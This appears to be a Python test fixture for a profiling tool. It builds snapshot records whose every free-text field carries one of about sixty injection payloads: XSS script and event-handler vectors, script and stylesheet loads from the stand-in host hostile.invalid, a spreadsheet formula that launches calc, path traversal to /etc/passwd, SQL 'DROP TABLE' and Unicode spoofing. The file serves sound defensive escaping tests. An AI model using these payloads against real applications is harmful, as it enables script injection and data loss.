"""Sixty names and notes that want to be more than text, and snapshots that carry one in every place a stranger can write.

Whatever a payload manages to do is called hostile: it sets window.hostile, asks the host hostile.invalid, or leaves an
element with hostile in an attribute.
"""

from __future__ import annotations

from profiling.foreign_text import MAX_NAME, MAX_TAG, MAX_TAGS, cleaned, printable
from profiling.records import Environment, Flag, JobError, Measurement
from profiling.snapshot import Snapshot, read
from tests import records_for_tests as records

_AWAY = "https://hostile.invalid"

PAYLOADS: tuple[str, ...] = (
    # script elements, and ways out of where the text stands
    "<script>window.hostile=1</script>",
    "</script><script>window.hostile=1</script>",
    "</style><script>window.hostile=1</script>",
    "</title></textarea><script>window.hostile=1</script>",
    f"<script src={_AWAY}/a.js></script>",
    "<scr<script>ipt>window.hostile=1</scr</script>ipt>",
    "--><script>window.hostile=1</script><!--",
    "<!-- never closed",
    "]]><script>window.hostile=1</script>",
    '"><script>window.hostile=1</script>',
    "'><svg onload=window.hostile=1>",
    '" onmouseover="window.hostile=1" autofocus onfocus="window.hostile=1',
    "` onerror=`window.hostile=1",
    # event handlers and elements that load
    "<img src=x onerror=window.hostile=1>",
    f"<img src={_AWAY}/a.png>",
    "<svg/onload=window.hostile=1>",
    "<svg><animate onbegin=window.hostile=1 attributeName=x dur=1s>",
    "<details open ontoggle=window.hostile=1>",
    "<iframe srcdoc='<script>parent.hostile=1</script>'></iframe>",
    f"<iframe src={_AWAY}></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hostile=1>",
    f"<link rel=stylesheet href={_AWAY}/a.css>",
    f"<style>@import '{_AWAY}/a.css'; body {{ background: url({_AWAY}/b.png) }}</style>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<base href={_AWAY}/>",
    f"<form action={_AWAY}><button autofocus>go</button></form>",
    "<a href='javascript:window.hostile=1' id=hostile>click</a>",
    f"<a href='data:text/html,<script>window.hostile=1</script>' ping={_AWAY}>click</a>",
    f"<object data={_AWAY}></object><embed src={_AWAY}>",
    "<video><source onerror=window.hostile=1></video>",
    # TeX, markdown, Streamlit's directives, Plotly's pseudo-HTML; some so short that a kernel's name holds them whole
    r"$x$ $\href{javascript:window.hostile=1}{click}$",
    r"$$\unicode{<img src=x onerror=window.hostile=1>}$$",
    f"[click]({_AWAY}/hostile)",
    "[click](javascript:window.hostile=1)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![x]({_AWAY}/a.png)",
    f"<{_AWAY}/hostile>",
    f"plain {_AWAY}/hostile link",
    ":red[red] :green-background[green] :small[small]",
    ":material/home: :smile: :streamlit:",
    f"<b>bold</b><br><a href='{_AWAY}/hostile'>click</a><sup>2</sup>",
    "%{x} %{customdata[0]} <extra>extra</extra>",
    "# heading\n\n- item\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "**bold** _italic_ ~~gone~~ `code` <- -> --",
    # templates and entities
    "{{constructor.constructor('window.hostile=1')()}} ${window.hostile=1} {0} {title}",
    "&lt;script&gt;window.hostile=1&lt;/script&gt; &amp;amp; &#60;b&#62; &quot;",
    "&#x3c;img src=x onerror=window.hostile=1&#x3e;",
    # what reorders, hides, floods
    "\u202egpj.exe\u202c \u2066isolate\u2069 \u200bzero\u200b\ufeff",
    "control \x00\x07\x08\x1b[31m\x7f\x9f end",
    "line\u2028separator\u2029paragraph\r\nreturn",
    "Z" + "\u0301\u0302\u0303\u0334\u0489" * 23 + "algo",
    "W" * 120,
    "👩\u200d👩\u200d👧\u200d👦 🏳\ufe0f\u200d🌈 \U0001f9ff \U000e0041 ﷽",
    # tables, files, queries
    '=HYPERLINK("https://hostile.invalid","click")',
    "+1+cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "con.txt:aux\\..\\..\\nul?*|<>",
    "'; DROP TABLE snapshots; --",
    "%' OR title LIKE '_%' ESCAPE '!' \" ` '' \\",
    "null undefined NaN true [] {} 0 -1 1e999",
)


def hostile_snapshot(title: str, texts: tuple[str, ...]) -> Snapshot:
    """A snapshot as a file brings it: `title` as title, author and host, each text in every place of its measurements."""
    return _read_back(title, texts, tuple(one for text in texts for one in hostile_measurements(text)))


def small_snapshot(text: str) -> Snapshot:
    """A snapshot for a list: one measurement, the text wherever text can be."""
    return _read_back(text, (text,), (renamed(records.in_interpreter(), printable(text)),))


def _read_back(title: str, texts: tuple[str, ...], measurements: tuple[Measurement, ...]) -> Snapshot:
    name = cleaned(title)[:MAX_NAME]
    tags = tuple(dict.fromkeys(cleaned(cleaned(text)[:MAX_TAG]).casefold() for text in texts))[:MAX_TAGS]
    snapshot = Snapshot(
        title=name, note="\n\n".join(texts), author=name, host=name, tags=tags, created_at="2026-11-29T13:10:00+00:00",
        measurements=measurements,
    )  # fmt: skip
    found = read(snapshot.document)
    assert isinstance(found, Snapshot)
    return found


def joined_snapshot(texts: tuple[str, ...]) -> Snapshot:
    """Many payloads on one page: a measurement for every fifth, it and the next in its names, all in its longer texts."""
    kinds = (records.failed(), records.on_gpu("v2", passed=False), _right())
    found = []
    for place in range(0, len(texts), 5):
        text = printable(" ".join((*texts[place:], *texts[:place])))
        one = renamed(kinds[place // 5 % 3], text)
        name = printable(texts[place])[:40]
        found.append(one.model_copy(update={"request": one.request.model_copy(update={"kernel": name})}))
    return _read_back(texts[0], texts, tuple(found))


def hostile_measurements(text: str) -> tuple[Measurement, ...]:
    """One that ran on a GPU, one whose output is wrong and one that failed, the text wherever a record takes text."""
    text = printable(text)
    return tuple(renamed(one, text) for one in (_right(), records.on_gpu("v2", passed=False), records.failed()))


def _right() -> Measurement:
    return records.on_gpu("v3", latency=records.latency(2.0, a_round=4))


def renamed(measurement: Measurement, text: str) -> Measurement:
    """A copy with the text in the place of every string that a file can choose freely."""
    words = text[:200]
    flags = [Flag(name=words, severity=severity, short=words, sentence=text) for severity in ("ok", "info", "caution", "bad")]
    found: dict[str, object] = {
        "request": measurement.request.model_copy(update={"kernel": text[:40]}),
        "environment": _environment(measurement, text),
        "flags": tuple(flags),
        "compiled": tuple(
            report.model_copy(update={"kernel": words, "triton_version": words, "counts": {words: 1}})
            for report in measurement.compiled
        ),
    }
    if measurement.accuracy is not None:
        wrong = {} if measurement.accuracy.passed else {"relative_error": None, "missing": {"relative_error": text}}
        found["accuracy"] = measurement.accuracy.model_copy(update={"allowed_because": text, **wrong})
    if measurement.memory is not None:
        found["memory"] = measurement.memory.model_copy(update={"missing": dict.fromkeys(_NVML, text)})
    if measurement.timeline is not None:
        found["timeline"] = measurement.timeline.model_copy(update={"missing": {"temperature_c": text, words: text}})
    if measurement.error is not None:
        found["error"] = JobError(kind=measurement.error.kind, sentence=text, needs=2.0, has=1.0, unit=words, raw=text)
    return measurement.model_copy(update=found)


def _environment(measurement: Measurement, text: str) -> Environment:
    words = text[:200]
    device = measurement.environment.device.model_copy(
        update={"name": words, "peak_source": text, "peak_bf16_tflops": None, "missing": {"peak_bf16_tflops": text}}
    )
    names = ("python_version", "torch_version", "triton_version", "cuda_version", "commit")
    missing = {"driver_version": text, words: text}
    changes = {"device": device, "driver_version": None, "missing": missing, **dict.fromkeys(names, words)}
    return measurement.environment.model_copy(update=changes)


_NVML = ("nvml_used_before_bytes", "nvml_used_peak_bytes", "nvml_used_after_bytes")
